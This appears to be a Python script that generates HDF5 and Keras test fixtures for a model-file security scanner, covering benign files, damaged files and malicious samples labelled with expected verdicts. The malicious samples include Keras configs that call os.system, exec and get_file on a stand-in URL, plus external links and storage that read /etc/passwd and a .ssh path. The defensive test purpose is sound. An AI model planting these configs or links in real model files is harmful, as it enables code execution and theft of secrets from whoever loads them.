"""HDF5 fixtures: data files written by h5py (every file-format version h5py can be asked for,
every storage layout, every string kind), Keras models saved as HDF5 by Keras itself, and
attacks: external links, external raw storage and virtual datasets pointing outside the file,
Keras HDF5 configs edited to carry the published Keras attacks, and damaged files.

Run from the repository root with a venv holding the pinned libraries:
    python3 -m venv /tmp/venv && /tmp/venv/bin/pip install h5py==3.16.0 keras==3.15.1 torch numpy
    KERAS_BACKEND=torch /tmp/venv/bin/python corpus/gen/hdf5.py
It rewrites corpus/formats/hdf5/ and corpus/formats/manifest-hdf5.json. Nothing here opens a
fixture after writing it except to edit it.
"""

import json
import os
import shutil

import h5py
import numpy as np

import manifest

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "formats")
OUT = os.path.join(ROOT, "hdf5")
MANIFEST = []


def path(name):
    os.makedirs(OUT, exist_ok=True)
    return os.path.join(OUT, name)


def expect(name, verdict, rules=(), container="hdf5", note=""):
    MANIFEST.append({"path": "hdf5/" + name, "container": container, "verdict": verdict,
                     "rules": sorted(rules), "note": note})


def fill(f, rng, groups=3, per_group=4):
    """Groups of datasets of every common dtype and layout, with attributes."""
    f.attrs["title"] = "benign data"  # variable-length UTF-8 string
    f.attrs["fixed"] = np.bytes_(b"fixed-length bytes")
    f.attrs["numbers"] = np.arange(5, dtype=np.int64)
    f.attrs["names"] = [b"alpha", b"beta", b"gamma"]
    f.attrs["scale"] = 0.5
    f.create_dataset("big_endian_f4", data=np.arange(6, dtype=">f4").reshape(2, 3))
    f.create_dataset("big_endian_i2", data=np.arange(-3, 3, dtype=">i2"))
    for g in range(groups):
        grp = f.create_group(f"group_{g}")
        grp.attrs["index"] = g
        grp.attrs["label"] = f"group {g}"
        for i in range(per_group):
            dtype = [np.float32, np.float64, np.int8, np.uint16, np.float16, np.bool_][(g + i) % 6]
            data = (rng.standard_normal((16, 8)) * 10).astype(dtype)
            kind = (g * per_group + i) % 4
            if kind == 0:
                grp.create_dataset(f"d{i}", data=data)
            elif kind == 1:
                grp.create_dataset(f"d{i}", data=data, chunks=(4, 8), compression="gzip")
            elif kind == 2:
                grp.create_dataset(f"d{i}", data=data[:2, :2])  # small: may be compact
            else:
                grp.create_dataset(f"d{i}", data=data, chunks=True, shuffle=True,
                                   fletcher32=True)
        sub = grp.create_group("nested/deeper")
        sub.create_dataset("scalar", data=3.25)
        sub.create_dataset("empty", shape=(0,), dtype="f4")
        sub.create_dataset("strings", data=np.array([b"a", b"bc", b"def"]))
        sub.create_dataset("vlen_strings", data=["x", "yz"], dtype=h5py.string_dtype())
        sub.create_dataset("unwritten", shape=(10,), dtype="f4")  # never written: no data


def compact_dcpl():
    plist = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    plist.set_layout(h5py.h5d.COMPACT)
    return plist


def compact_dataset(f, name, data):
    space = h5py.h5s.create_simple(data.shape)
    tid = h5py.h5t.py_create(data.dtype)
    ds = h5py.h5d.create(f.id, name.encode(), tid, space, dcpl=compact_dcpl())
    ds.write(h5py.h5s.ALL, h5py.h5s.ALL, data)


def benign_data(rng):
    for libver in ["earliest", "v108", "v110", "v112", "v114", "latest"]:
        name = f"data_libver_{libver}.h5"
        with h5py.File(path(name), "w", libver=(libver, "latest") if libver != "latest" else "latest") as f:
            fill(f, rng)
            compact_dataset(f, "compact", np.arange(6, dtype="i4"))
        expect(name, "clean", note=f"h5py {h5py.__version__}, libver {libver}")
    with h5py.File(path("data_track_order.h5"), "w", track_order=True) as f:
        fill(f, rng, groups=2, per_group=3)
    expect("data_track_order.h5", "clean", note="track_order=True (link and attribute order)")
    with h5py.File(path("data_links.h5"), "w") as f:
        fill(f, rng, groups=1, per_group=2)
        f["soft"] = h5py.SoftLink("/group_0/d0")
        f["hard_again"] = f["group_0"]  # a second hard link to a group: a cycle-free revisit
        f["group_0"]["loop"] = f["/"]  # a hard link back to the root: a cycle
    expect("data_links.h5", "clean", note="soft link, hard links forming a cycle")
    with h5py.File(path("data_many_links.h5"), "w") as f:
        for i in range(40):  # more links than a compact group holds with libver latest
            f.create_dataset(f"w{i:02d}", data=rng.standard_normal(4).astype("f4"))
    expect("data_many_links.h5", "clean", note="40 datasets in one group")
    # Dense storage: links and attributes as fractal-heap objects indexed by version 2 B-trees.
    for name, kw, links, attributes in [
        ("dense_latest_40_links_30_attrs.h5", dict(libver="latest"), 40, 30),
        ("dense_track_order_40.h5", dict(track_order=True), 40, 0),
        ("dense_track_order_3000.h5", dict(track_order=True), 3000, 200),
    ]:
        with h5py.File(path(name), "w", **kw) as f:
            g = f.create_group("many")
            for i in range(links):
                g.create_dataset(f"weight_{i:05d}", data=np.full(2, i, dtype="f4"))
            for i in range(attributes):
                g.attrs[f"attr_{i:04d}"] = f"value {i}"
        expect(name, "clean", note=f"{links} links, {attributes} attributes, {kw}")
    with h5py.File(path("data_big_attribute.h5"), "w") as f:
        f.attrs["long"] = "x" * 100_000  # a variable-length string in the global heap
        f.attrs["many"] = [f"item {i}" for i in range(2000)]
        f.create_dataset("d", data=np.zeros(3))
    expect("data_big_attribute.h5", "clean", note="long and many variable-length strings")


def keras_models():
    import keras

    def dense():
        m = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation="relu"),
                              keras.layers.Dropout(0.1), keras.layers.Dense(2, activation="softmax")])
        m.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
        return m

    def functional():
        inp = keras.Input((8, 8, 3))
        x = keras.layers.Conv2D(4, 3, padding="same")(inp)
        x = keras.layers.BatchNormalization()(x)
        x = keras.layers.GlobalAveragePooling2D()(x)
        out = keras.layers.Dense(3)(x)
        return keras.Model(inp, out)

    def activation_lambda():
        return keras.Sequential([keras.Input((4,)), keras.layers.Dense(4),
                                 keras.layers.Lambda(keras.activations.relu)])

    def rnn():
        return keras.Sequential([keras.Input((5, 3)), keras.layers.LSTM(4, return_sequences=True),
                                 keras.layers.GRU(2), keras.layers.Dense(1)])

    for name, build in [("keras_dense_compiled", dense), ("keras_functional_conv_bn", functional),
                        ("keras_lambda_relu", activation_lambda), ("keras_lstm_gru", rnn)]:
        m = build()
        m.save(path(name + ".h5"))  # the legacy HDF5 format: model_config on the root group
        expect(name + ".h5", "clean", container="keras-h5", note="keras.Model.save(*.h5)")
        m.save_weights(path(name + ".weights.h5"))
        expect(name + ".weights.h5", "clean", note="keras.Model.save_weights")
        m.save(path(name + ".keras"))
        expect(name + ".keras", "clean", container="zip", note="keras.Model.save(*.keras)")
    return dense


def edit_model_config(src, dst, edit):
    shutil.copyfile(src, dst)
    with h5py.File(dst, "r+") as f:
        cfg = json.loads(f.attrs["model_config"])
        f.attrs["model_config"] = json.dumps(edit(cfg))


def keras_attacks():
    base = path("keras_dense_compiled.h5")

    def layer(cfg, class_name):
        return next(l for l in cfg["config"]["layers"] if l["class_name"] == class_name)

    def os_system(cfg):
        # CVE-2025-1550: a layer's activation as any importable callable.
        layer(cfg, "Dense")["config"]["activation"] = {
            "module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
        return cfg

    edit_model_config(base, path("keras_cve_2025_1550_os_system.h5"), os_system)
    expect("keras_cve_2025_1550_os_system.h5", "dangerous", ["PS981"], container="keras-h5")

    def get_file(cfg):
        # CVE-2025-8747: keras.utils.get_file reached from a config.
        layer(cfg, "Dense")["config"]["kernel_initializer"] = {
            "module": "keras.utils", "class_name": "get_file", "config": {
                "fname": "x", "origin": "https://example.invalid/payload"}, "registered_name": None}
        return cfg

    edit_model_config(base, path("keras_cve_2025_8747_get_file.h5"), get_file)
    expect("keras_cve_2025_8747_get_file.h5", "dangerous", ["PS981"], container="keras-h5")

    def vocabulary(cfg):
        # CVE-2025-12058: a lookup layer reading its vocabulary from a path.
        cfg["config"]["layers"].insert(1, {
            "module": "keras.layers", "class_name": "StringLookup",
            "config": {"name": "lookup", "vocabulary": "/etc/passwd"}, "registered_name": None})
        return cfg

    edit_model_config(base, path("keras_cve_2025_12058_vocabulary.h5"), vocabulary)
    expect("keras_cve_2025_12058_vocabulary.h5", "dangerous", ["PS983"], container="keras-h5")

    # The same attack in training_config (compile settings are deserialized on load too).
    dst = path("keras_training_config_exec.h5")
    shutil.copyfile(base, dst)
    with h5py.File(dst, "r+") as f:
        tc = json.loads(f.attrs["training_config"])
        tc["loss"] = {"module": "builtins", "class_name": "function", "config": "exec",
                      "registered_name": "function"}
        f.attrs["training_config"] = json.dumps(tc)
    expect("keras_training_config_exec.h5", "dangerous", ["PS981"], container="keras-h5")

    # tf.keras 2 wrote model_config as fixed-length bytes, not a variable-length string.
    dst = path("keras_fixed_bytes_os_system.h5")
    shutil.copyfile(base, dst)
    with h5py.File(dst, "r+") as f:
        cfg = os_system(json.loads(f.attrs["model_config"]))
        f.attrs["model_config"] = np.bytes_(json.dumps(cfg).encode())
    expect("keras_fixed_bytes_os_system.h5", "dangerous", ["PS981"], container="keras-h5")

    dst = path("keras_config_not_json.h5")
    shutil.copyfile(base, dst)
    with h5py.File(dst, "r+") as f:
        f.attrs["model_config"] = "{not json"
    expect("keras_config_not_json.h5", "suspicious", ["PS982"], container="keras-h5")


def external_attacks(rng):
    with h5py.File(path("external_link_absolute.h5"), "w") as f:
        f.create_dataset("w", data=np.ones(3))
        f["leak"] = h5py.ExternalLink("/etc/passwd", "/data")
    expect("external_link_absolute.h5", "dangerous", ["PS985"])
    with h5py.File(path("external_link_parent.h5"), "w", libver="latest") as f:
        f.create_group("g")["leak"] = h5py.ExternalLink("../../../home/user/.ssh/id.h5", "/k")
    expect("external_link_parent.h5", "dangerous", ["PS985"], note="libver latest: link messages")
    with h5py.File(path("external_link_beside.h5"), "w") as f:
        f["part"] = h5py.ExternalLink("part2.h5", "/weights")
    expect("external_link_beside.h5", "suspicious", ["PS986"])
    with h5py.File(path("external_storage_absolute.h5"), "w") as f:
        f.create_dataset("secret", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)])
    expect("external_storage_absolute.h5", "dangerous", ["PS985"])
    with h5py.File(path("external_storage_beside.h5"), "w") as f:
        f.create_dataset("raw", shape=(16,), dtype="f4", external=[("raw.bin", 0, 64)])
    expect("external_storage_beside.h5", "suspicious", ["PS986"])
    for name, source, verdict, rules in [
        ("virtual_absolute.h5", "/etc/passwd.h5", "dangerous", ["PS985"]),
        ("virtual_beside.h5", "parts.h5", "suspicious", ["PS986"]),
    ]:
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource(source, "data", shape=(4,))
        with h5py.File(path(name), "w", libver="latest") as f:
            f.create_virtual_dataset("v", layout)
        expect(name, verdict, rules)


def damaged():
    src = path("data_libver_earliest.h5")
    data = open(src, "rb").read()
    with open(path("truncated_half.h5"), "wb") as f:
        f.write(data[: len(data) // 2])
    expect("truncated_half.h5", "suspicious", ["PS987"])
    with open(path("truncated_superblock.h5"), "wb") as f:
        f.write(data[:40])
    expect("truncated_superblock.h5", "suspicious", ["PS987"])
    # Every symbol-table node signature broken: the groups' members cannot be found.
    with open(path("broken_symbol_nodes.h5"), "wb") as f:
        f.write(data.replace(b"SNOD", b"SNOX"))
    expect("broken_symbol_nodes.h5", "suspicious", ["PS987"])
    # A B-tree node whose child points back at itself.
    b = bytearray(data)
    at = b.find(b"TREE")
    # TREE, type, level, entries, left, right sibling (8 bytes each), key, child.
    child = at + 4 + 1 + 1 + 2 + 16 + 8
    b[at + 5] = 1  # level 1: children are B-tree nodes
    b[child:child + 8] = at.to_bytes(8, "little")
    with open(path("btree_cycle.h5"), "wb") as f:
        f.write(bytes(b))
    expect("btree_cycle.h5", "suspicious", ["PS987"])


def contents(name):
    """What h5py sees in a fixture: every dataset (shape, element kind and size, layout, file
    offset of contiguous data) and every attribute (string values decoded), for the Rust reader's
    test to compare with."""
    layouts = {0: "compact", 1: "contiguous", 2: "chunked", 3: "virtual"}
    datasets, attributes = {}, {}

    def attrs(obj_name, obj):
        for k in obj.attrs.keys():
            try:
                v = obj.attrs[k]
            except (OSError, TypeError):
                v = None
            if isinstance(v, bytes):
                v = [v.decode()]
            elif isinstance(v, str):
                v = [v]
            elif isinstance(v, np.ndarray) and v.dtype.kind in "SO":
                v = [x.decode() if isinstance(x, bytes) else x for x in v.ravel().tolist()]
            else:
                v = None
            attributes[f"{obj_name}@{k}"] = v

    with h5py.File(path(name), "r") as f:
        attrs("/", f)

        def visit(n, obj):
            full = "/" + n
            attrs(full, obj)
            if isinstance(obj, h5py.Dataset):
                layout = layouts[obj.id.get_create_plist().get_layout()]
                datasets[full] = {
                    "shape": list(obj.shape) if obj.shape is not None else None,
                    "kind": obj.dtype.kind, "size": obj.dtype.itemsize, "layout": layout,
                    "offset": obj.id.get_offset() if layout == "contiguous" else None,
                }
        f.visititems(visit)
    return {"datasets": datasets, "attributes": attributes}


def main():
    shutil.rmtree(OUT, ignore_errors=True)
    rng = np.random.default_rng(0)
    benign_data(rng)
    keras_models()
    keras_attacks()
    external_attacks(rng)
    damaged()
    MANIFEST.sort(key=lambda e: e["path"])
    seen = {}
    for e in MANIFEST:
        name = e["path"].split("/", 1)[1]
        if name.endswith(".h5") and e["verdict"] == "clean":
            seen[name] = contents(name)
    with open(os.path.join(ROOT, "hdf5-contents.json"), "w") as f:
        json.dump(seen, f, indent=1, sort_keys=True)
        f.write("\n")
    manifest.write(ROOT, "manifest-hdf5.json", __file__, MANIFEST)


if __name__ == "__main__":
    main()
